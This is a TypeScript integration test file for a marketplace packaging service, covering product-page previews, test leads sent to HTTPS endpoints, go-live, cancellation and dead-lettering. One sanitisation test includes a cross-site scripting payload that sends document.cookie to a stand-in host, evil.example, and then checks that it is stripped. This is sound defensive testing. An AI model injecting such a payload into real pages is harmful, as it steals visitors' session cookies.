/**
 * The packaging service as its own process on the real broker and PostgreSQL, with every event delivered
 * twice: product page and preview, HTTPS test leads (success, lost answer, refused, 401, too slow),
 * go-live, cancel at sign-off, stale attempts and Go Live before the preview.
 */
import { DLQ_HEADERS } from '@mkt/messaging';
import { EventLog, TestDatabase, TestTopics, TopicReader, publishEvents, uniqueId, waitFor, waitForGroupCaughtUp, type ChildHandle } from '@mkt/testing';
import { testLeadId } from '../src/domain';
import { LeadEndpoint, PUBLIC_URL, baseDraft, closedPort, events, newOffer, queryDb, startPackaging, type TestOffer } from './support';

const topics = new TestTopics();
let db: TestDatabase;
let topic: string;
let deadLetterTopic: string;
let group: string;
let service: ChildHandle | undefined;
let log: EventLog;
let deadLetters: TopicReader;
let endpoint: LeadEndpoint;

beforeAll(async () => {
  db = await new TestDatabase('packaging').create();
  topic = await topics.create('packaging');
  deadLetterTopic = await topics.create('packaging-dlq');
  group = uniqueId('packaging-');
  endpoint = await new LeadEndpoint().start();
  [log, deadLetters] = await Promise.all([new EventLog(topic).start(), new TopicReader(deadLetterTopic).start()]);
  service = await startPackaging({ db, topic, deadLetterTopic, group });
});

afterAll(async () => {
  await service?.kill();
  await Promise.all([log?.stop(), deadLetters?.stop(), endpoint?.stop()]);
  await db?.drop();
  await topics.cleanup();
});

/** Submits the offer and replicates its images: what provisioning's success looks like to packaging. */
async function submitAndReplicate(offer: TestOffer, draft = baseDraft(), attempt = 1): Promise<void> {
  await publishEvents(topic, [events.submitted(offer, attempt, draft), events.replicated(offer, attempt)], { twice: true });
}

/** Everything published so far has been consumed and committed by the service. */
async function caughtUp(): Promise<void> {
  await waitForGroupCaughtUp(group, topic);
}

function fromPackaging(offer: TestOffer) {
  return log.of(offer.subject).filter((e) => e.source === '/marketplace/packaging');
}

describe('packaging without lead generation', () => {
  const offer = newOffer('nolead');

  test('PreviewReady carries the escaped, sanitised product page and its hash; PackagingStarted comes first, once', async () => {
    const draft = baseDraft({
      title: '<script>alert("title")</script> Web VM',
      description: '<p>Fast <em>and</em> safe</p><script>fetch("https://evil.example/?c=" + document.cookie)</script><img src=x onerror="alert(1)">',
    });
    await submitAndReplicate(offer, draft);

    const preview = await log.waitFor(offer.subject, 'PreviewReady');
    expect(preview.attempt).toBe(1);
    expect(preview.correlationId).toBe(`${offer.correlationId}-1`);
    expect(preview.data.previewUrl).toBe(`${PUBLIC_URL}/api/publishers/${offer.publisherId}/offers/${offer.offerId}/preview`);
    expect(preview.data.testLead).toBeUndefined();
    const page = preview.data.productPageHtml;
    expect(page).toContain('<h1>&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt; Web VM</h1>');
    expect(page).toContain('<p>Fast <em>and</em> safe</p>');
    expect(page).not.toMatch(/<script|onerror|evil\.example|SECRET/);
    expect(page).toContain('<li>HTTPS 443/TCP</li>');
    expect(preview.data.productPageHash).toMatch(/^sha256:[0-9a-f]{64}$/);

    await caughtUp();
    expect(fromPackaging(offer).map((e) => e.type)).toEqual(['PackagingStarted', 'PreviewReady']);
    expect(fromPackaging(offer)[0]).toMatchObject({ type: 'PackagingStarted', data: { leadGeneration: false } });
    const [stored] = await queryDb<{ product_page_hash: string; snapshot: { plans: Array<{ imageVersions: unknown[] }> } }>(
      db,
      'SELECT product_page_hash, snapshot FROM packaging_offers WHERE subject = $1',
      [offer.subject],
    );
    expect(stored.product_page_hash).toBe(preview.data.productPageHash);
    expect(stored.snapshot.plans[0].imageVersions).toEqual([{ version: '1.0.0' }]);
  });

  test('GoLiveRequested -> WentLive with the catalog URL; the page is in the catalog, once', async () => {
    const preview = await log.waitFor(offer.subject, 'PreviewReady');
    await publishEvents(topic, [events.goLive(offer, 1)], { twice: true });

    const live = await log.waitFor(offer.subject, 'WentLive');
    expect(live.data.catalogUrl).toBe(`${PUBLIC_URL}/api/catalog/offers/${offer.publisherId}/${offer.offerId}`);
    const catalog = await queryDb<{ attempt: number; product_page_hash: string; product_page_html: string; catalog_url: string }>(
      db,
      'SELECT attempt, product_page_hash, product_page_html, catalog_url FROM catalog_entries WHERE subject = $1',
      [offer.subject],
    );
    expect(catalog).toEqual([
      { attempt: 1, product_page_hash: preview.data.productPageHash, product_page_html: preview.data.productPageHtml, catalog_url: live.data.catalogUrl },
    ]);
    await caughtUp();
    expect(log.of(offer.subject, 'WentLive')).toHaveLength(1);
  });
});

describe('test lead to an HTTPS endpoint', () => {
  test('the lead is POSTed as JSON with the Authorization header and an idempotency key; redelivered events send it once', async () => {
    const offer = newOffer('https');
    const path = `/ok/${offer.offerId}`;
    await submitAndReplicate(offer, baseDraft({ leadDestination: { type: 'https', https: { url: endpoint.url(path), authorization: 'Bearer test-secret' } } }));

    const preview = await log.waitFor(offer.subject, 'PreviewReady');
    const leadId = testLeadId(offer.subject, 1);
    expect(preview.data.testLead).toEqual({ destination: 'https', leadId });
    await caughtUp();
    const requests = endpoint.requestsTo(path);
    expect(requests).toHaveLength(1);
    const [request] = requests;
    expect(request.method).toBe('POST');
    expect(request.headers.authorization).toBe('Bearer test-secret');
    expect(request.headers['content-type']).toBe('application/json');
    expect(request.headers['idempotency-key']).toBe(leadId);
    expect(JSON.parse(request.body)).toMatchObject({
      leadId,
      isTest: true,
      offer: { publisherId: offer.publisherId, offerId: offer.offerId, title: 'Contoso Web VM', attempt: 1 },
      customer: { firstName: 'Test', lastName: 'Lead', email: 'test.lead@example.com' },
    });
    expect(fromPackaging(offer).map((e) => e.type)).toEqual(['PackagingStarted', 'PreviewReady']);
    expect(fromPackaging(offer)[0].data).toEqual({ leadGeneration: true });
  });

  test('when the answer is lost and the job retries, the retry carries the same lead id, so the publisher has one lead', async () => {
    const offer = newOffer('retry');
    const path = `/lost-answer/${offer.offerId}`;
    await submitAndReplicate(offer, baseDraft({ leadDestination: { type: 'https', https: { url: endpoint.url(path), authorization: 'Bearer x' } } }));

    const preview = await log.waitFor(offer.subject, 'PreviewReady');
    const leadId = testLeadId(offer.subject, 1);
    expect(preview.data.testLead).toEqual({ destination: 'https', leadId });
    const requests = endpoint.requestsTo(path);
    expect(requests).toHaveLength(2);
    expect(requests.map((r) => r.headers['idempotency-key'])).toEqual([leadId, leadId]);
    expect(requests[1].body).toBe(requests[0].body);
    expect([...endpoint.leads.keys()].filter((k) => k === leadId)).toHaveLength(1);
    await caughtUp();
    expect(log.of(offer.subject, 'PackagingStarted')).toHaveLength(1);
  });

  test.each([
    [
      'refused',
      async () => `http://127.0.0.1:${await closedPort()}/leads`,
      'lead-endpoint-unreachable',
      'the lead endpoint refused the connection',
      /check the endpoint URL/,
    ],
    ['401', async () => endpoint.url(`/unauthorized/${uniqueId('')}`), 'lead-endpoint-unauthorized', 'the lead endpoint answered 401', /check the credentials/],
    ['slow', async () => endpoint.url(`/slow/${uniqueId('')}`), 'lead-endpoint-timeout', 'the lead endpoint did not answer within 1 s', /within 1 s/],
  ])('lead endpoint %s -> PackagingFailed saying what to fix', async (_label, url, code, reason, action) => {
    const offer = newOffer('fail');
    const leadUrl = await url();
    await submitAndReplicate(offer, baseDraft({ leadDestination: { type: 'https', https: { url: leadUrl, authorization: 'Bearer wrong' } } }));

    const failed = await log.waitFor(offer.subject, 'PackagingFailed');
    expect(failed.data).toMatchObject({ code, reason });
    expect(failed.data.action).toMatch(action);
    await caughtUp();
    expect(log.of(offer.subject, 'PreviewReady')).toHaveLength(0);
    expect(log.of(offer.subject, 'PackagingFailed')).toHaveLength(1);
    const tries = endpoint.requestsTo(new URL(leadUrl).pathname).length;
    // a 401 is final; refused and slow endpoints get the configured second try
    if (_label === '401') expect(tries).toBe(1);
    if (_label === 'slow') expect(tries).toBe(2);
    const [attempt] = await queryDb<{ state: string }>(db, 'SELECT state FROM offer_attempts WHERE subject = $1', [offer.subject]);
    expect(attempt.state).toBe('packaging-failed');
  });
});

describe('sign-off, cancel, stale attempts', () => {
  test('PublishCanceled at sign-off: a later GoLiveRequested of that attempt does nothing', async () => {
    const offer = newOffer('cancel');
    await submitAndReplicate(offer);
    await log.waitFor(offer.subject, 'PreviewReady');
    await publishEvents(topic, [events.canceled(offer, 1)], { twice: true });
    await caughtUp();
    await publishEvents(topic, [events.goLive(offer, 1)], { twice: true });
    await caughtUp();

    expect(await queryDb(db, `SELECT kind, state FROM jobs WHERE subject = $1 ORDER BY id`, [offer.subject])).toEqual([{ kind: 'package', state: 'done' }]);
    expect(await queryDb(db, 'SELECT attempt, state FROM offer_attempts WHERE subject = $1', [offer.subject])).toEqual([{ attempt: 1, state: 'canceled' }]);
    expect(await queryDb(db, 'SELECT 1 FROM catalog_entries WHERE subject = $1', [offer.subject])).toEqual([]);
    expect(log.of(offer.subject, 'WentLive')).toHaveLength(0);
    expect(deadLetters.messages.filter((m) => m.key === offer.subject)).toHaveLength(0);
  });

  test('events of a superseded attempt are ignored: only the newer attempt is packaged', async () => {
    const offer = newOffer('stale');
    await publishEvents(
      topic,
      [
        events.submitted(offer, 1, baseDraft({ title: 'First try' })),
        events.submitted(offer, 2, baseDraft({ title: 'Second try' })),
        events.replicated(offer, 1),
        events.goLive(offer, 1),
        events.replicated(offer, 2),
      ],
      { twice: true },
    );

    const preview = await log.waitFor(offer.subject, 'PreviewReady');
    expect(preview.attempt).toBe(2);
    expect(preview.data.productPageHtml).toContain('<h1>Second try</h1>');
    await caughtUp();
    expect(fromPackaging(offer).map((e) => `${e.type}#${e.attempt}`)).toEqual(['PackagingStarted#2', 'PreviewReady#2']);
    expect(await queryDb(db, 'SELECT kind, attempt FROM jobs WHERE subject = $1', [offer.subject])).toEqual([{ kind: 'package', attempt: 2 }]);
  });

  test('GoLiveRequested before PreviewReady is dead-lettered with the reason and changes nothing', async () => {
    const offer = newOffer('early');
    await publishEvents(topic, [events.submitted(offer, 1, baseDraft()), events.goLive(offer, 1)], { twice: true });

    const dead = await waitFor('the early GoLiveRequested on the dead-letter topic', () => deadLetters.messages.find((m) => m.key === offer.subject));
    expect(dead.headers[DLQ_HEADERS.reason]).toContain('arrived before PreviewReady');
    expect(dead.headers[DLQ_HEADERS.code]).toBe('not-applicable');
    expect(dead.headers.ce_type).toBe('marketplace.offer.GoLiveRequested');
    await caughtUp();
    expect(deadLetters.messages.filter((m) => m.key === offer.subject)).toHaveLength(1);
    expect(await queryDb(db, 'SELECT attempt, state FROM offer_attempts WHERE subject = $1', [offer.subject])).toEqual([
      { attempt: 1, state: 'awaiting-images' },
    ]);
    expect(await queryDb(db, 'SELECT 1 FROM jobs WHERE subject = $1', [offer.subject])).toEqual([]);
  });
});
